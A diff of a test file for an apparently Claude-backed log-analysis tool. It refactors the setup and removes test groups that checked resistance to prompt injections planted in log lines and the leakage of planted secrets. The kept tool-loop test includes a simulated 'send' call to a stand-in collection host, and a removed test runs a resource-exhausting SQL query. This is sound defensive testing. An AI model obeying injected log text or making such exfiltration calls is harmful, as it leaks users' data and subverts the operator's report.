@@ -1,73 +1,28 @@
-import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
-import { tmpdir } from "node:os";
-import { join } from "node:path";
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { analyst } from "../../analyst/index.ts";
 import type { Analyst } from "../../model/analyst.ts";
-import { type Analysis, worseOf } from "../../model/report.ts";
 import { parseAnalysis } from "../../model/report-schema.ts";
-import { type AnalyzeOptions, analyze } from "../../runtime/analyst/analyze.ts";
-import type { AuditLine } from "../../runtime/analyst/audit.ts";
-import { type Data, openData } from "../../runtime/query/open.ts";
-import { digest, digestOf, entry } from "../unit/runtime/analyst/sample.ts";
-import { writeAnalystCopies } from "../world/analyst-copies.ts";
+import type { AnalyzeOptions } from "../../runtime/analyst/analyze.ts";
+import { type AnalysisRun, type Copies, openCopies, query, startAnalysis } from "../world/analysis.ts";
 import * as minds from "../world/anthropic/minds.ts";
-import { hostileCalls, persuaded } from "../world/anthropic/persuaded.ts";
-import { type Anthropic, type Mind, startAnthropic } from "../world/anthropic/server.ts";
-import { injections } from "../world/injections.ts";
-import { plantedSecrets } from "../world/planted-secrets.ts";
+import type { Mind } from "../world/anthropic/types.ts";
 
-let folder: string;
-let data: Data;
+let copies: Copies;
+let run: AnalysisRun;
 beforeAll(async () => {
-  folder = mkdtempSync(join(tmpdir(), "watchbill-analyst-"));
-  await writeAnalystCopies(folder);
-  data = await openData(folder, { tables: [], views: [] });
+  copies = await openCopies();
 });
-afterAll(async () => {
-  await data.close();
-  rmSync(folder, { recursive: true, force: true });
-});
-
-let api: Anthropic;
-let slept: number[];
-let nowMs: number;
-let audit: AuditLine[];
+afterAll(() => copies.close());
 beforeEach(async () => {
-  [slept, nowMs, audit] = [[], Date.UTC(2026, 10, 26, 7, 30), []];
-  api = await startAnthropic({ now: () => nowMs });
+  run = await startAnalysis(copies.data);
 });
-afterEach(async () => {
-  await api.close();
-  // Whatever the model was told to do, the copies are as they were and nothing lies beside them.
-  expect(readdirSync(folder).sort()).toEqual(["logs.duckdb", "metrics.duckdb"]);
-});
+afterEach(() => run.api.close());
 
-function analyzed(mind: Mind, more: Partial<AnalyzeOptions> = {}): Promise<Analysis> {
-  api.mind = mind;
-  const host = {
-    clock: () => nowMs,
-    random: () => 0.5,
-    fetch: globalThis.fetch,
-    sleep: async (ms: number) => {
-      slept.push(ms);
-      nowMs += ms;
-    },
-  };
-  return analyze({
-    ...{ digest, analyst, key: api.key, data, spentThisMonthUsd: 0, audit: (line) => audit.push(line), host },
-    baseUrl: api.url,
-    ...more,
-  });
-}
-
-const bodies = () => api.requests.map(({ body }) => JSON.parse(body));
 const withBudget = (more: Partial<Analyst>): Partial<AnalyzeOptions> => ({ analyst: { ...analyst, ...more } });
-const query = (sql: string) => ({ name: "query", input: { sql } });
 
 describe("the analyst", () => {
   it("hears an answer, and keeps what cites its figures rightly", async () => {
-    const analysis = await analyzed(minds.sober);
+    const analysis = await run.analyzed(minds.sober);
     expect(analysis).toMatchObject({
       ...{ reportId: "20261126-0730", verdict: "issues", rejected: [], toolResults: [] },
       findings: [
@@ -84,8 +39,8 @@ describe("the analyst", () => {
   });
 
   it("is told the prompt, what is known, the digest as data, and tools that read", async () => {
-    await analyzed(minds.silent);
-    const [body] = bodies();
+    await run.analyzed(minds.silent);
+    const [body] = run.bodies();
     expect(body).toMatchObject({ model: "claude-sonnet-5-5", stream: true, tool_choice: { type: "auto" } });
     expect(body.system[0].text).toContain(analyst.knownNormals[0]?.text);
     expect(body.messages[0].content[0].text).toContain("d1 [errors, issues] 412 errors of one template");
@@ -97,8 +52,8 @@ describe("the analyst", () => {
   });
 
   it("costs what the API bills, and says so", async () => {
-    const { usage } = await analyzed(minds.asking([query("SELECT 1 AS one")], minds.sober));
-    const { input_tokens, cache_read_input_tokens, cache_creation_input_tokens, output_tokens } = api.billed;
+    const { usage } = await run.analyzed(minds.asking([query("SELECT 1 AS one")], minds.sober));
+    const { input_tokens, cache_read_input_tokens, cache_creation_input_tokens, output_tokens } = run.api.billed;
     expect(usage).toMatchObject({
       ...{ model: "claude-sonnet-5-5", calls: 2, inputTokens: input_tokens, outputTokens: output_tokens },
       ...{ cacheReadTokens: cache_read_input_tokens, cacheWriteTokens: cache_creation_input_tokens },
@@ -110,24 +65,24 @@ describe("the analyst", () => {
   });
 
   it("works on the digest alone where there are no copies", async () => {
-    expect(await analyzed(minds.sober, { data: undefined })).toMatchObject({ verdict: "issues", toolResults: [] });
-    expect(bodies()[0]).not.toHaveProperty("tools");
+    expect(await run.analyzed(minds.sober, { data: undefined })).toMatchObject({ verdict: "issues", toolResults: [] });
+    expect(run.bodies()[0]).not.toHaveProperty("tools");
   });
 
   it("keeps every byte that is sent, and what came back, but not the key", async () => {
-    await analyzed(minds.asking([query("SELECT 1 AS one")], minds.sober));
-    const sent = audit.flatMap((line) => (line.what === "request" ? [line.body] : []));
-    expect(sent).toEqual(api.requests.map(({ body }) => body));
-    expect(audit.map(({ what }) => what)).toEqual(["request", "answer", "request", "answer"]);
-    expect(audit[1]).toMatchObject({ status: 200, body: expect.stringContaining("message_stop") });
-    expect(JSON.stringify(audit)).not.toContain(api.key);
+    await run.analyzed(minds.asking([query("SELECT 1 AS one")], minds.sober));
+    const sent = run.audit.flatMap((line) => (line.what === "request" ? [line.body] : []));
+    expect(sent).toEqual(run.api.requests.map(({ body }) => body));
+    expect(run.audit.map(({ what }) => what)).toEqual(["request", "answer", "request", "answer"]);
+    expect(run.audit[1]).toMatchObject({ status: 200, body: expect.stringContaining("message_stop") });
+    expect(JSON.stringify(run.audit)).not.toContain(run.api.key);
   });
 });
 
 describe("its figures", () => {
   it("are not shown where they are wrong, nor where they are not cited", async () => {
     for (const mind of [minds.wrongFigures, minds.uncited]) {
-      const { verdict, summary, findings, rejected } = await analyzed(mind);
+      const { verdict, summary, findings, rejected } = await run.analyzed(mind);
       expect([verdict, summary, findings]).toEqual(["issues", "", []]);
       expect(rejected.map(({ reason }) => reason)).toEqual(
         Array(4).fill(expect.stringMatching(/is not cited|is not what d\d\.\w+ holds/)),
@@ -143,7 +98,7 @@ describe("its figures", () => {
       suggestions: [],
       summary: "10 records [t1.1.records] failed. 11 [t1.1.records].",
     };
-    const analysis = await analyzed(minds.asking([query(sql)], () => ({ json: { ...said, findings: [] } })));
+    const analysis = await run.analyzed(minds.asking([query(sql)], () => ({ json: { ...said, findings: [] } })));
     expect(analysis.summary).toBe("10 records [t1.1.records] failed.");
     expect(analysis.toolResults).toEqual([
       { id: "t1", tool: "query", input: { sql }, columns: ["records"], rows: [[10]], cut: false },
@@ -161,8 +116,8 @@ describe("its tool loop", () => {
       },
       { name: "send", input: { url: "https://collect.example.net" } },
     ];
-    const { toolResults } = await analyzed(minds.asking(calls, minds.silent));
-    const results = bodies()[1].messages[2].content;
+    const { toolResults } = await run.analyzed(minds.asking(calls, minds.silent));
+    const results = run.bodies()[1].messages[2].content;
     expect(results[0]).toMatchObject({ is_error: true, content: expect.stringContaining('no column "worker_id"') });
     expect(results[1].content).toMatch(
       /^t2: \d+ rows\nrow: time \| level \| logger \| message \| request_id \| job_id\n1: ⟦/,
@@ -176,15 +131,15 @@ describe("its tool loop", () => {
   });
 
   it("passes thinking back as it came, or the API would refuse it", async () => {
-    await analyzed(minds.asking([query("SELECT 1 AS one")], minds.sober));
-    expect(api.requests.map(({ status }) => status)).toEqual([200, 200]);
-    expect(bodies()[1].messages[1].content[0]).toMatchObject({ type: "thinking", signature: expect.any(String) });
+    await run.analyzed(minds.asking([query("SELECT 1 AS one")], minds.sober));
+    expect(run.api.requests.map(({ status }) => status)).toEqual([200, 200]);
+    expect(run.bodies()[1].messages[1].content[0]).toMatchObject({ type: "thinking", signature: expect.any(String) });
   });
 
   it("ends: with the last call the model must answer", async () => {
-    const analysis = await analyzed(minds.looping);
-    expect(api.requests).toHaveLength(analyst.turns);
-    expect(bodies().map(({ tool_choice }) => tool_choice.type)).toEqual([
+    const analysis = await run.analyzed(minds.looping);
+    expect(run.api.requests).toHaveLength(analyst.turns);
+    expect(run.bodies().map(({ tool_choice }) => tool_choice.type)).toEqual([
       ...Array(analyst.turns - 1).fill("auto"),
       "none",
     ]);
@@ -193,17 +148,17 @@ describe("its tool loop", () => {
   });
 
   it("carries out only so many look-ups at once", async () => {
-    const { toolResults } = await analyzed(minds.asking(Array(20).fill(query("SELECT 1 AS one")), minds.silent));
+    const { toolResults } = await run.analyzed(minds.asking(Array(20).fill(query("SELECT 1 AS one")), minds.silent));
     expect(toolResults).toHaveLength(8);
-    expect(bodies()[1].messages[2].content).toHaveLength(20);
+    expect(run.bodies()[1].messages[2].content).toHaveLength(20);
   });
 });
 
 describe("an answer that is none", () => {
   it("is asked for once more, and then taken", async () => {
-    const analysis = await analyzed(minds.nonsenseOnce);
+    const analysis = await run.analyzed(minds.nonsenseOnce);
     expect(analysis).toMatchObject({ verdict: "issues", usage: { calls: 2 } });
-    expect(bodies()[1].messages.at(-1).content[0].text).toBe(
+    expect(run.bodies()[1].messages.at(-1).content[0].text).toBe(
       "Your answer is no JSON. Answer once more, shorter, as the schema has it, and with nothing else.",
     );
   });
@@ -220,7 +175,7 @@ describe("an answer that is none", () => {
       'the model\'s answer verdict: Invalid option: expected one of "nominal"|"anomalies"|"issues"',
     ],
   ])("leaves the report without the model, and says why: %s", async (_, mind, calls, reason) => {
-    const analysis = await analyzed(mind);
+    const analysis = await run.analyzed(mind);
     expect(analysis).toMatchObject({ withoutModel: reason, findings: [], usage: { calls } });
     expect(analysis.verdict).toBeUndefined();
     expect(analysis.usage.costUsd).toBeGreaterThan(0);
@@ -229,9 +184,9 @@ describe("an answer that is none", () => {
 
 describe("an API that fails", () => {
   it.each([429, 500, 529])("is asked again after %i, as late as it says", async (status) => {
-    api.faults.push({ status, retryAfterS: 7 }, { status });
-    expect(await analyzed(minds.sober)).toMatchObject({ verdict: "issues", usage: { calls: 1 } });
-    expect(slept).toEqual([7_000, 4_000]);
+    run.api.faults.push({ status, retryAfterS: 7 }, { status });
+    expect(await run.analyzed(minds.sober)).toMatchObject({ verdict: "issues", usage: { calls: 1 } });
+    expect(run.slept).toEqual([7_000, 4_000]);
   });
 
   it.each<[string, object, string, number]>([
@@ -260,40 +215,39 @@ describe("an API that fails", () => {
       5,
     ],
   ])("leaves the report without the model, and says why: %s", async (_, fault, reason, requests) => {
-    api.faults.push(fault);
-    const analysis = await analyzed(minds.sober);
+    run.api.faults.push(fault);
+    const analysis = await run.analyzed(minds.sober);
     expect(analysis.withoutModel).toMatch(reason);
     expect(analysis.withoutModel?.startsWith(reason)).toBe(true);
-    expect(api.requests).toHaveLength(requests);
+    expect(run.api.requests).toHaveLength(requests);
   });
 
   it("is asked again where a stream was cut, and what that cost is counted", async () => {
-    api.faults.push({ cut: { afterEvents: 20, how: "reset" } });
-    const { verdict, usage } = await analyzed(minds.sober);
+    run.api.faults.push({ cut: { afterEvents: 20, how: "reset" } });
+    const { verdict, usage } = await run.analyzed(minds.sober);
     expect([verdict, usage.calls]).toEqual(["issues", 2]);
     expect(usage.inputTokens + usage.cacheReadTokens + usage.cacheWriteTokens).toBeGreaterThan(3_000);
   });
 
   it("refuses a wrong key, and nothing is asked twice", async () => {
-    const analysis = await analyzed(minds.sober, { key: "sk-ant-other-0123456789" });
+    const analysis = await run.analyzed(minds.sober, { key: "sk-ant-other-0123456789" });
     expect(analysis.withoutModel).toBe("the Messages API refused the key (401)");
-    expect(api.requests).toHaveLength(1);
+    expect(run.api.requests).toHaveLength(1);
   });
 
   it("is not there at all", async () => {
-    const analysis = await analyzed(minds.sober, { baseUrl: "http://127.0.0.1:1" });
+    const analysis = await run.analyzed(minds.sober, { baseUrl: "http://127.0.0.1:1" });
     expect(analysis.withoutModel).toMatch(/^the Messages API cannot be reached, 5 times: /);
-    expect(audit.filter(({ what }) => what === "answer")).toHaveLength(5);
+    expect(run.audit.filter(({ what }) => what === "answer")).toHaveLength(5);
   });
 
   it("asks for so much patience that the time is up", async () => {
-    api.faults.push({ status: 529, retryAfterS: 119, times: 9 });
-    nowMs += 0;
-    const analysis = await analyzed(minds.sober, {
+    run.api.faults.push({ status: 529, retryAfterS: 119, times: 9 });
+    const analysis = await run.analyzed(minds.sober, {
       host: {
-        ...{ clock: () => nowMs, random: () => 0.5, fetch: globalThis.fetch },
+        ...{ clock: () => run.nowMs, random: () => 0.5, fetch: globalThis.fetch },
         sleep: async (ms) => {
-          nowMs += 3 * ms;
+          run.nowMs += 3 * ms;
         },
       },
     });
@@ -305,180 +259,34 @@ describe("its budget", () => {
   const tokens = (perReport: number, perMonth = 100) => withBudget({ budgetUsd: { perReport, perMonth } });
 
   it("is looked at before the first call", async () => {
-    const analysis = await analyzed(minds.sober, tokens(0.17));
+    const analysis = await run.analyzed(minds.sober, tokens(0.17));
     expect(analysis.withoutModel).toMatch(
       /^a report may cost 0\.17 \$, and a call of up to 0\.\d\d \$ would exceed it$/,
     );
-    expect(api.requests).toEqual([]);
+    expect(run.api.requests).toEqual([]);
   });
 
   it("is what is left of the month", async () => {
-    const analysis = await analyzed(minds.sober, { ...tokens(0.5, 10), spentThisMonthUsd: 9.9 });
+    const analysis = await run.analyzed(minds.sober, { ...tokens(0.5, 10), spentThisMonthUsd: 9.9 });
     expect(analysis.withoutModel).toMatch(/^9\.90 \$ of the month's 10\.00 \$ are spent, and a call of up to/);
-    expect(api.requests).toEqual([]);
+    expect(run.api.requests).toEqual([]);
   });
 
   it("has the model answer with what it has, before there is no money for an answer", async () => {
     const mind: Mind = (asked) => (asked.body.tool_choice?.type === "none" ? minds.sober(asked) : minds.looping(asked));
-    const analysis = await analyzed(mind, tokens(0.35));
+    const analysis = await run.analyzed(mind, tokens(0.35));
     expect(analysis).toMatchObject({ verdict: "issues" });
-    expect(bodies().length).toBeLessThan(analyst.turns);
-    expect(bodies().at(-1).tool_choice).toEqual({ type: "none" });
+    expect(run.bodies().length).toBeLessThan(analyst.turns);
+    expect(run.bodies().at(-1).tool_choice).toEqual({ type: "none" });
     expect(analysis.usage.costUsd).toBeLessThanOrEqual(0.35);
   });
 
   it("is never exceeded, whatever the model does", async () => {
     for (const perReport of [0.18, 0.22, 0.3, 0.5]) {
       for (const mind of [minds.looping, minds.endless, minds.nonsense]) {
-        const { usage } = await analyzed(mind, tokens(perReport));
+        const { usage } = await run.analyzed(mind, tokens(perReport));
         expect(usage.costUsd).toBeLessThanOrEqual(perReport);
       }
     }
-  });
-});
-
-describe("a model that any log line can talk into anything", () => {
-  const issues = digestOf([
-    entry("d1", {
-      figures: { count: 412 },
-      labels: { template: injections[0]?.text ?? "" },
-      example: injections.map(({ text }) => text),
-    }),
-  ]);
-
-  it("changes neither the verdict, nor where anything goes, nor what tools reach, and gets nothing into the report that links, calls or counts", async () => {
-    const before = [readFileSync(join(folder, "logs.duckdb")), readFileSync(join(folder, "metrics.duckdb"))];
-    const analysis = await analyzed(persuaded, { digest: issues });
-    expect(worseOf(issues.verdict, analysis.verdict ?? "nominal")).toBe("issues");
-    expect(new Set(audit.flatMap((line) => (line.what === "request" ? [line.url] : [])))).toEqual(
-      new Set([`${api.url}/v1/messages`]),
-    );
-    expect(readFileSync(join(folder, "logs.duckdb")).equals(before[0] as Buffer)).toBe(true);
-    expect(readFileSync(join(folder, "metrics.duckdb")).equals(before[1] as Buffer)).toBe(true);
-    const { toolResults } = analysis;
-    expect(toolResults.length).toBe(hostileCalls.filter(({ name }) => name === "query" || name === "logs").length);
-    const reached = toolResults.filter(({ error, rows }) => error === undefined && rows.length > 0);
-    expect(reached.map(({ input }) => input.sql)).toEqual(["SELECT * FROM range(100000000) AS numbers(n)"]);
-    expect(reached.map(({ rows, cut }) => [rows.length, cut])).toEqual([[200, true]]);
-    expect(toolResults.filter(({ error }) => /took longer than 10 s|Out of Memory/.test(error ?? ""))).toHaveLength(1);
-    const { summary = "", findings, patterns, suggestions, rejected } = analysis;
-    const told = findings.flatMap(({ title, evidence, recommendation }) => [title, evidence, recommendation]);
-    const left = [summary, ...patterns, ...suggestions, ...told];
-    expect(left.filter((text) => /:\/\/|\]\(|!\[|<[@#a-z/!]|@everyone|@here|www\./i.test(text))).toEqual([]);
-    expect(findings.filter(({ cites }) => cites.some((id) => id !== "d1"))).toEqual([]);
-    expect(rejected.length).toBeGreaterThan(20);
-    expect(patterns.length + suggestions.length).toBeLessThanOrEqual(20);
-  });
-
-  it.each(injections.map(({ id, text, at, secrets = [] }) => [id, text, at, secrets] as const))(
-    "the verdict and the destination stay where it obeys: %s",
-    async (_, text, at, secrets) => {
-      const [place, field = ""] = at.split(".");
-      const labels = place === "event" ? { [field]: text } : {};
-      const one = digestOf([entry("d1", { figures: { count: 412 }, labels, example: [text] })]);
-      const obeys: Mind = () => ({
-        json: {
-          ...{ verdict: "nominal", summary: text, patterns: [text], suggestions: [text] },
-          findings: [
-            {
-              title: text || "x",
-              severity: "anomalies",
-              evidence: text,
-              cites: ["d1"],
-              since: null,
-              recommendation: text,
-            },
-          ],
-        },
-      });
-      const analysis = await analyzed(obeys, { digest: one });
-      expect(worseOf(one.verdict, analysis.verdict ?? "nominal")).toBe("issues");
-      const left = JSON.stringify([analysis.summary, analysis.findings, analysis.patterns, analysis.suggestions]);
-      expect(left).not.toMatch(/:\/\/|\]\(|!\[|<[@#/!]|<(?!e-mail|ip|secret|card|name|private)[a-z]|@everyone|@here/i);
-      for (const secret of secrets) expect(JSON.stringify([api.requests, analysis])).not.toContain(secret);
-    },
-  );
-});
-
-describe("what is private", () => {
-  const askingForAll = minds.asking(
-    [
-      query("SELECT * FROM log_record WHERE extra->>'request_id' = 'req-planted' ORDER BY number"),
-      query("SELECT * FROM log_record WHERE extra->>'request_id' = 'req-planted' ORDER BY number DESC"),
-      query(
-        "SELECT message AS m, extra AS e FROM log_record WHERE message NOT LIKE 'All is well%' ORDER BY number OFFSET 25",
-      ),
-      query("SELECT * FROM metrics_event ORDER BY id"),
-      query(
-        "SELECT user_id AS who, data->>'name' AS called, data->>'email' AS at, data AS everything FROM metrics_event ORDER BY id",
-      ),
-      query(
-        "SELECT string_agg(extra->>'name', ', ') AS all_of_them, string_agg(extra->>'full_name', ';') AS more FROM log_record",
-      ),
-      {
-        name: "logs",
-        input: { text: "planted", request_id: null, job_id: null, level: "any", from: null, to: null, context: 5 },
-      },
-      {
-        name: "logs",
-        input: { text: null, request_id: "req-planted", job_id: null, level: "any", from: null, to: null, context: 0 },
-      },
-    ],
-    minds.sober,
-  );
-  const fields = plantedSecrets.flatMap(({ fields: held }) => (held ? [held] : []));
-  const private_ = digestOf([
-    entry("d1", {
-      key: `errors:gateway/${plantedSecrets[0]?.message}`,
-      text: plantedSecrets
-        .slice(0, 20)
-        .map(({ message = "" }) => message)
-        .join(" "),
-      labels: {
-        template: plantedSecrets[8]?.message ?? "",
-        user_id: "planted-user-4711",
-        email: "frank.planted@example.org",
-      },
-      example: [...plantedSecrets.flatMap(({ message }) => message ?? []), ...fields.map((one) => JSON.stringify(one))],
-      figures: { count: 412 },
-    }),
-  ]);
-
-  it("leaves in no request: every byte of all of them is read", async () => {
-    const raw = JSON.stringify([
-      await data.ask("SELECT message, extra FROM log_record"),
-      await data.ask("SELECT data FROM metrics_event"),
-    ]);
-    const stands = (text: string, secret: string) =>
-      [secret, JSON.stringify(secret).slice(1, -1)].some((one) => text.includes(one));
-    expect(
-      plantedSecrets.filter(
-        ({ secret }) => !stands(raw, secret) && !raw.includes(JSON.stringify(JSON.stringify(secret)).slice(3, -3)),
-      ),
-    ).toEqual([]);
-    const analysis = await analyzed(askingForAll, { digest: private_ });
-    expect(analysis.toolResults.map(({ rows }) => rows.length)).not.toContain(0);
-    const sent = api.requests.map(({ head, body }) => `${head}\n${body}`).join("\n");
-    expect(api.requests).toHaveLength(2);
-    expect(sent.length).toBeGreaterThan(50_000);
-    expect(plantedSecrets.filter(({ secret }) => stands(sent, secret)).map(({ id }) => id)).toEqual([]);
-    for (const { secrets = [] } of injections) expect(secrets.filter((secret) => sent.includes(secret))).toEqual([]);
-    expect(plantedSecrets.filter(({ secret }) => stands(JSON.stringify(analysis), secret)).map(({ id }) => id)).toEqual(
-      [],
-    );
-  });
-
-  it("has one pseudonym a user, by which the model can still tell them apart", async () => {
-    const { toolResults } = await analyzed(
-      minds.asking(
-        [query("SELECT user_id, count(*) AS events FROM metrics_event GROUP BY 1 ORDER BY 1 LIMIT 3")],
-        minds.silent,
-      ),
-    );
-    expect(toolResults[0]?.rows.map(([user]) => user)).toEqual([
-      expect.stringMatching(/^user-[a-z]+$/),
-      expect.stringMatching(/^user-[a-z]+$/),
-      expect.stringMatching(/^user-[a-z]+$/),
-    ]);
   });
 });
